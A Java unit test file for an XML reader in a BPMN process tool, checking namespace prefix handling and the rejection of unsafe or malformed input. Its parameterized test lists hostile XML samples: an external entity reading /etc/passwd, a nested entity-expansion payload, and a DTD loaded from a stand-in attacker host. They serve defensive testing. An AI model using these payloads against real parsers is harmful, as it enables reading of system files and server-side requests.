package io.flowdesk.process.gate.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.flowdesk.process.gate.xml.XmlFile.NotReadable;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class XmlFileTest {

    @Test
    void namesCarryTheUsualPrefixes() throws NotReadable {
        Element root = read(
                "<a:process xmlns:a='http://www.omg.org/spec/BPMN/20100524/MODEL'"
                        + " xmlns:b='http://camunda.org/schema/1.0/bpmn' id='p' b:versionTag='1'><c xmlns='urn:c'/></a:process>");
        assertThat(root.name()).isEqualTo("bpmn:process");
        assertThat(root.attributes()).containsOnlyKeys("id", "camunda:versionTag");
        assertThat(root.children().get(0).name()).isEqualTo("{urn:c}c");
        assertThat(root.children().get(0).nearestId()).isEqualTo("p");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE a><a/>",
                "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
                "<!DOCTYPE a [<!ENTITY x 'aaaa'><!ENTITY y '&x;&x;&x;'>]><a>&y;</a>",
                "<!DOCTYPE a SYSTEM 'http://evil.example/x.dtd'><a/>",
                "<a>&unknown;</a>",
                "<a",
                "",
                "<a/><b/>",
                "not xml"
            })
    void doctypesEntitiesAndBrokenFilesAreNotRead(String content) {
        assertThatThrownBy(() -> read(content)).isInstanceOf(NotReadable.class);
    }

    @Test
    void elementsAreNotNestedWithoutEnd() {
        assertThatThrownBy(() -> read("<a>".repeat(5000) + "</a>".repeat(5000)))
                .isInstanceOf(NotReadable.class)
                .hasMessageContaining("nested");
    }

    private static Element read(String content) throws NotReadable {
        return XmlFile.read(new ByteArrayInputStream(content.getBytes(StandardCharsets.UTF_8)));
    }
}
